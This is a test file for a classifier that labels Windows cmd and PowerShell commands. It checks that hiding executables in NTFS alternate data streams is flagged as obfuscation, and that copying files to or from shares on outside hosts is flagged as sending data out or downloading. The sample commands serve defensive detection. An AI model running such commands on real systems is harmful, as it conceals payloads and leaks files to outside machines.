/** Streams of files and shares of machines outside, in the two languages of Windows. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from '../../test/support/effects.ts';

test('what is written beside the content of a file is hidden', () => {
  for (const code of [
    'type C:\\a.exe > C:\\x\\b.txt:c.exe',
    'zorp C:\\a.cab C:\\x\\b.txt:c.cab',
    'echo x > b.txt:c.vbs',
  ])
    assert.ok(effectsOf(code, 'cmd').includes('obfuscates one'), code);
  assert.ok(effectsOf("Set-Content -Path a.txt -Stream c -Value 'x'", 'powershell').includes('obfuscates one'));
  for (const code of [
    'echo x > C:\\x\\b.txt',
    'zorp /target:computer',
    'zorp build web:5000',
    'zorp -v C:\\x:/x img:tag',
    'more < a.exe:Zone.Identifier',
  ])
    assert.ok(!effectsOf(code, 'cmd').includes('obfuscates one'), code);
  assert.ok(!effectsOf('zorp ./a.txt:b', 'shell').includes('obfuscates one'));
});

test('a share of a machine outside receives and gives as any address does', () => {
  assert.ok(effectsOf('copy C:\\x\\a.docx \\\\203.0.113.7\\in\\a.docx', 'cmd').includes('sends_out one'));
  assert.ok(effectsOf('copy \\\\files.example.net\\out\\a.zip C:\\x', 'cmd').includes('downloads one'));
  for (const code of ['copy a.txt \\\\files\\in\\a.txt', 'copy a.txt \\\\192.168.1.4\\in\\a.txt'])
    assert.ok(!effectsOf(code, 'cmd').includes('sends_out one'), code);
});
